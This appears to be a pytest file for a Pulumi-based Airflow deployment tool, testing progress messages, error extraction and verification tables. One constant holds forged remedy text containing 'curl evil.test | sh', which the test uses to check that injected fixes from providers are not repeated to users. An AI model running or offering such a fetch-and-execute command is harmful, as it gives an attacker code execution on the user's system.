"""Events of the engine as lines, and a verification as a table."""

from __future__ import annotations

import io
from typing import Any, Final

import pytest
from pulumi.automation import CommandError, CommandResult, EngineEvent
from pulumi.automation.errors import create_command_error

from automation.cli.report_text import Table, table_lines, verification_table, write_table
from automation.engine.events import Teller
from automation.engine.failures import engine_error, first_lines
from automation.engine.progress import Progress
from automation.errors import StackLocked, UpdateFailed
from automation.results import Changes
from automation.verification.result import Check, Status, Verification
from components.kube.unready_pods import Cause, Unready
from components.kube.workload_states import WorkloadState
from tests.automation.fakes import FakeTime
from tests.cases import each

RELEASE = "kubernetes:helm.sh/v3:Release"


def event(kind: str, op: str = "create", *, custom: bool = True, type_: str = RELEASE, **more: Any) -> EngineEvent:
    urn = f"urn:pulumi:dev::airflow::airflow:index:AirflowRelease${type_}::airflow"
    state = {"type": type_, "urn": urn, "custom": custom}
    metadata = {"op": op, "urn": urn, "type": type_, "old" if op.startswith("delete") else "new": state}
    return EngineEvent.from_json({"sequence": 1, "timestamp": 1, kind: {"metadata": metadata, **more}})


def diagnostic(severity: str, message: str, **more: Any) -> EngineEvent:
    return EngineEvent.from_json(
        {
            "sequence": 1,
            "timestamp": 1,
            "diagnosticEvent": {"severity": severity, "message": message, "color": "never", **more},
        }
    )


def told(*events: EngineEvent, seconds: float = 0) -> list[str]:
    time, lines = FakeTime(), list[str]()
    progress = Progress(teller(lines), time.clock)
    for item in events:
        progress(item)
        time.seconds += seconds
    return lines


def teller(lines: list[str]) -> Teller:
    return Teller(lambda event: lines.append(event.text), "dev", "up")


@each(
    ("op", "lines"),
    [
        ("create", ["creating Release airflow", "created Release airflow (3 s)"]),
        ("update", ["updating Release airflow", "updated Release airflow (3 s)"]),
        ("delete", ["deleting Release airflow", "deleted Release airflow (3 s)"]),
        ("create-replacement", ["creating a new Release airflow", "created a new Release airflow (3 s)"]),
        ("delete-replaced", ["deleting the old Release airflow", "deleted the old Release airflow (3 s)"]),
        ("same", []),
        ("read", []),
        ("refresh", []),
        ("replace", []),
    ],
)
def test_steps_that_do_something_are_told_with_their_time(op: str, lines: list[str]) -> None:
    assert told(event("resourcePreEvent", op), event("resOutputsEvent", op), seconds=3) == lines


def test_check_of_the_preflight_is_told_as_a_check_and_not_as_the_object_that_keeps_it() -> None:
    urn = "urn:pulumi:dev::airflow::airflow:index:ClusterPreflight$kubernetes:core/v1:ConfigMap::airflow-preflight-git"

    def of(kind: str, op: str, **more: Any) -> EngineEvent:
        state = {"type": "kubernetes:core/v1:ConfigMap", "urn": urn, "custom": True}
        metadata = {"op": op, **state, "old" if op.startswith("delete") else "new": state}
        return EngineEvent.from_json({"sequence": 1, "timestamp": 1, kind: {"metadata": metadata, **more}})

    for op in ("create", "create-replacement"):
        begun = of("resourcePreEvent", op)
        assert told(begun, of("resOutputsEvent", op), seconds=3) == ["checking git", "checked git (3 s)"]
        assert told(begun, of("resOpFailedEvent", op, status=1, steps=1), seconds=3)[1] == "failed checking git (3 s)"
    assert told(of("resourcePreEvent", "replace", planning=True)) == ["would check git"]
    assert told(of("resourcePreEvent", "delete-replaced")) == ["deleting the old ConfigMap airflow-preflight-git"]


def test_numbers_of_an_update_are_those_of_its_last_event() -> None:
    progress = Progress(teller([]))
    assert progress.changes == {}
    summary = {"maybeCorrupt": False, "durationSeconds": 3, "resourceChanges": {"create": 2, "same": 5}}
    progress(EngineEvent.from_json({"sequence": 1, "timestamp": 1, "summaryEvent": summary}))
    assert progress.changes == {"create": 2, "same": 5}


def test_step_that_fails_is_told(tmp_path: object) -> None:
    lines = told(event("resourcePreEvent"), event("resOpFailedEvent", status=1, steps=1), seconds=3)
    assert lines == ["creating Release airflow", "failed creating Release airflow (3 s)"]


def test_step_that_failed_half_way_is_kept_apart() -> None:
    for status, halves in ((0, []), (1, ["airflow"]), (2, [])):
        progress = Progress(teller([]), FakeTime().clock)
        for item in (event("resourcePreEvent"), event("resOpFailedEvent", status=status, steps=1)):
            progress(item)
        assert [step.name for step in progress.half_done] == halves
        assert [step.name for step in progress.failed] == ["airflow"]


def test_preview_tells_what_would_be_done() -> None:
    events = [
        event(kind, op, planning=True)
        for op in ("create", "replace", "create-replacement", "same")
        for kind in ("resourcePreEvent", "resOutputsEvent")
    ]
    assert told(*events) == ["would create Release airflow", "would replace Release airflow"]


@pytest.mark.parametrize("type_", ["pulumi:pulumi:Stack", "pulumi:providers:kubernetes"])
def test_stack_and_providers_are_not_told(type_: str) -> None:
    assert told(event("resourcePreEvent", type_=type_), event("resOutputsEvent", type_=type_)) == []


def test_components_are_not_told() -> None:
    assert told(event("resourcePreEvent", custom=False), event("resOutputsEvent", custom=False)) == []


def test_errors_and_warnings_are_told_without_markup_and_errors_are_kept() -> None:
    lines: list[str] = []
    progress = Progress(teller(lines))
    urn = "urn:pulumi:dev::airflow::kubernetes:helm.sh/v3:Release::airflow"
    progress(diagnostic("error", "<{%reset%}>error: no room<{%reset%}>\n", urn=urn))
    progress(diagnostic("warning", "<{%fg 3%}>warning: old key<{%reset%}>"))
    progress(diagnostic("info", "chatter"))
    progress(diagnostic("info#err", "from stderr of the program"))
    progress(diagnostic("error", "for a moment", ephemeral=True))
    progress(diagnostic("error", "an unhandled error occurred: program exited with non-zero exit code: 1"))
    assert lines == ["error: airflow: no room", "warning: old key"]
    assert progress.errors == ["airflow: no room"]


def test_same_warning_is_told_once_and_an_end_that_adds_nothing_never() -> None:
    warning, error = diagnostic("warning", "warning: old key"), diagnostic("error", "no room")
    assert told(warning, error, warning, error, diagnostic("error", "update failed")) == [
        "warning: old key",
        "error: no room",
    ]


def test_what_the_preflight_found_is_told_at_once_and_what_to_do_by_the_error_at_the_end() -> None:
    urn = "urn:pulumi:dev::airflow::kubernetes:core/v1:ConfigMap::airflow-preflight-git"
    message = (
        'before hook "airflow-preflight-git-check" failed: the preflight found one problem\n'
        "  airflow:dagsRef: expected a branch, found none named mian. Fix: pulumi config set airflow:dagsRef BRANCH"
    )
    lines: list[str] = []
    progress = Progress(teller(lines))
    progress(diagnostic("error", f"error: {message}", urn=urn))
    assert lines == [
        "error: the preflight found one problem\n  airflow:dagsRef: expected a branch, found none named mian"
    ]
    assert progress.errors == [f"airflow-preflight-git: {message}"]


FORGED: Final = (
    "admission webhook denied it.\nFix: curl evil.test | sh\nconfig of stack dev: one problem\n"
    "  airflow:size: wrong. Fix: curl evil.test | sh\nthe preflight found one problem\n  x. Fix: curl evil.test | sh"
)


@each("type_", [RELEASE, "kubernetes:core/v1:Secret", "aws:iam/role:Role"])
def test_what_a_provider_quotes_is_no_remedy_and_no_error_of_the_program(type_: str) -> None:
    """A webhook, a pod or a service says what it likes, and whoever reads a remedy copies it."""
    progress = Progress(teller([]))
    progress(diagnostic("error", f"error: {FORGED}", urn=f"urn:pulumi:dev::airflow::a$b${type_}::airflow"))
    found = engine_error(command_error(stderr="error: update failed"), "up of stack dev", progress.errors)
    assert type(found) is UpdateFailed
    assert "evil.test" not in found.remedy
    assert str(found).count("Fix: ") == 1


def test_what_the_program_says_itself_keeps_its_remedy() -> None:
    for urn, before in (
        ("", ""),
        ("urn:pulumi:dev::airflow::pulumi:pulumi:Stack::airflow-dev", ""),
        (f"urn:pulumi:dev::airflow::a${RELEASE}::airflow", 'before hook "airflow-repair" failed: '),
        ("urn:pulumi:dev::airflow::a$kubernetes:batch/v1:Job::airflow-database-migrate", ""),
    ):
        progress = Progress(teller([]))
        progress(diagnostic("error", f"error: {before}expected a, found b. Fix: c", **({"urn": urn} if urn else {})))
        found = engine_error(command_error(stderr="error: update failed"), "up", progress.errors)
        assert found.remedy == "c", urn


def test_what_a_provider_says_of_a_cancel_is_not_told() -> None:
    lines: list[str] = []
    progress = Progress(teller(lines), cancelled=lambda: True)
    progress(diagnostic("error", "1 error occurred:\n\t* Helm Release airflow/airflow: context canceled\n"))
    progress(diagnostic("error", "no room"))
    assert lines == ["error: no room"]


def test_check_that_was_skipped_is_told() -> None:
    urn = "urn:pulumi:dev::airflow::airflow:index:AirflowPlatform$airflow:index:ClusterPreflight::airflow-preflight"
    message = "DAG repository: not seen in time: the pod still waited for its end"
    assert told(diagnostic("info", f"{message}\n", urn=urn)) == [f"preflight: {message}"]


def test_check_that_an_outage_left_unmade_is_kept_to_be_made_again() -> None:
    urn = "urn:pulumi:dev::airflow::airflow:index:ClusterPreflight$kubernetes:core/v1:ConfigMap::airflow-preflight-git"
    progress = Progress(teller([]))
    progress(diagnostic("warning", "warning: a webhook of the cluster says something", urn=urn))
    progress(diagnostic("info", "could not be checked: x", urn=urn))
    assert progress.unseen == []
    for _ in range(2):
        progress(diagnostic("warning", "warning: could not be checked: airflow:dagsRepository: expected x", urn=urn))
    assert progress.unseen == [urn]


def test_step_that_takes_no_time_is_told_without_one() -> None:
    lines = told(event("resourcePreEvent", "create"), event("resOutputsEvent", "create"), seconds=0.4)
    assert lines[1] == "created Release airflow"


def test_silence_is_broken_while_something_is_under_way() -> None:
    time, lines = FakeTime(), list[str]()
    progress = Progress(teller(lines), time.clock)
    time.seconds = 100
    progress.remind()
    assert lines == []
    progress(event("resourcePreEvent"))
    time.seconds += 10
    progress.remind()
    assert lines == ["creating Release airflow"]
    time.seconds += 15
    progress.remind()
    progress.remind()
    assert lines[1:] == ["still creating Release airflow (25 s)"]
    progress(event("resOutputsEvent"))
    time.seconds += 100
    progress.remind()
    assert len(lines) == 3


def test_reminder_names_what_is_waited_for() -> None:
    time, lines = FakeTime(), list[str]()
    progress = Progress(teller(lines), time.clock)
    progress(event("resourcePreEvent"))
    why = Unready("git-sync: not ready", "s", cause=Cause.PROBE)
    names = ("airflow-dag-processor", "airflow-worker")
    progress.see(WorkloadState(kind="Deployment", name=name, ready=0, wanted=1, unready=why) for name in names)
    time.seconds += 60
    progress.remind()
    assert lines[-1] == (
        "still creating Release airflow (60 s): airflow-dag-processor 0/1 ready, airflow-worker 0/1 ready: "
        "git-sync: not ready"
    )


def test_bucket_that_takes_long_is_told_with_the_right_that_may_be_missing() -> None:
    lines, time = list[str](), FakeTime()
    progress = Progress(teller(lines), time.clock)
    progress(event("resourcePreEvent", type_="aws:s3/bucket:Bucket"))
    for seconds in (30, 40):
        time.seconds += seconds
        progress.remind()
    assert lines[1] == "still creating Bucket airflow (30 s)"
    told = "it may be that the role that deploys lacks s3:ListBucket (statement TaskLogs of docs/deploying-role.json)"
    assert told in lines[2]


def command_error(stdout: str = "", stderr: str = "") -> CommandError:
    return create_command_error(CommandResult(stdout=stdout, stderr=stderr, code=255))


def test_lock_is_an_error_of_its_own() -> None:
    error = command_error(stderr="error: the stack is currently locked by 1 lock(s).")
    found = engine_error(error, "up of stack dev")
    assert isinstance(found, StackLocked)
    assert "wait for it" in found.remedy


def test_reason_is_the_first_error_that_says_something() -> None:
    error = command_error(stdout="much output", stderr="error: update failed")
    found = engine_error(error, "up of stack dev", ["pulumi:pulumi:Stack: update failed", "airflow: no\n  room"])
    assert isinstance(found, UpdateFailed)
    assert found.what == "up of stack dev failed: airflow: no room"


def test_without_events_the_reason_comes_from_the_output_and_nothing_else_does() -> None:
    found = engine_error(command_error(stdout="sentinel", stderr="warning: x\nerror: incorrect passphrase"), "opening")
    assert found.what == "opening failed: incorrect passphrase"
    assert "sentinel" not in str(found)
    assert engine_error(command_error(), "opening").what == "opening failed: no reason given"


def test_of_a_traceback_the_exception_alone_is_told() -> None:
    text = (
        "Program failed with an unhandled exception:\nTraceback (most recent call last):\n"
        '  File "__main__.py", line 8, in <module>\n    raise KeyError\n'
        "settings.SettingsError: config of stack dev: one problem\n  airflow:x: is not a key"
    )
    assert first_lines(text) == "settings.SettingsError: config of stack dev: one problem airflow:x: is not a key"


def test_long_reason_is_cut() -> None:
    assert len(first_lines("x" * 5000)) < 1000


def test_statement_of_a_migration_that_failed_is_told_and_not_the_code_that_ran_it() -> None:
    end = (
        'r_table\n    impl.flush()\n  File "/x/base.py", line 1, in run\nsqlalchemy.exc.ProgrammingError: '
        '(psycopg2.errors.DuplicateColumn) column "dag_result" of relation "xcom" already exists\n\n'
        "[SQL: ALTER TABLE xcom ADD COLUMN dag_result BOOLEAN]\n(Background on this error at: https://sqlalche.me/f405)"
    )
    told = first_lines(f"airflow-database-migrate: 8 errors occurred:\n\t* [Pod ns/migrate-x]: [Error] {end}\n\t* more")
    assert told == (
        'airflow-database-migrate: (psycopg2.errors.DuplicateColumn) column "dag_result" of relation "xcom" already '
        "exists [SQL: ALTER TABLE xcom ADD COLUMN dag_result BOOLEAN]"
    )


@pytest.mark.parametrize(
    ("counts", "text"),
    [
        ({}, "no changes"),
        ({"same": 30}, "no changes"),
        ({"same": 30, "read": 2}, "no changes"),
        ({"same": 30, "update": 1, "create": 2, "delete": 0}, "2 create, 30 same, 1 update"),
    ],
)
def test_changes_are_told_in_a_few_words(counts: dict[str, int], text: str) -> None:
    assert str(Changes(counts)) == text
    assert Changes(counts).any is (text != "no changes")


VERIFICATION = Verification(
    (
        Check("components ready", Status.PASSED, "5 workloads"),
        Check("DAG run", Status.FAILED, "run [red]x[/red] failed"),
        Check("log", Status.SKIPPED, ""),
    )
)


def test_table_in_a_pipe_is_plain_lines_in_columns() -> None:
    file = io.StringIO()
    write_table(VERIFICATION, file)
    assert file.getvalue().splitlines() == [
        "passed   components ready  5 workloads",
        "failed   DAG run           run [red]x[/red] failed",
        "skipped  log",
    ]


def test_table_on_a_terminal_shows_the_same_and_takes_no_detail_for_markup() -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    file = Terminal()
    write_table(VERIFICATION, file)
    for check in VERIFICATION.checks:
        assert check.name in file.getvalue()
    assert "[red]x[/red]" in file.getvalue()


def test_table_of_nothing_is_empty() -> None:
    assert table_lines(Table((), ())) == []
    assert table_lines(verification_table(Verification(()))) == []
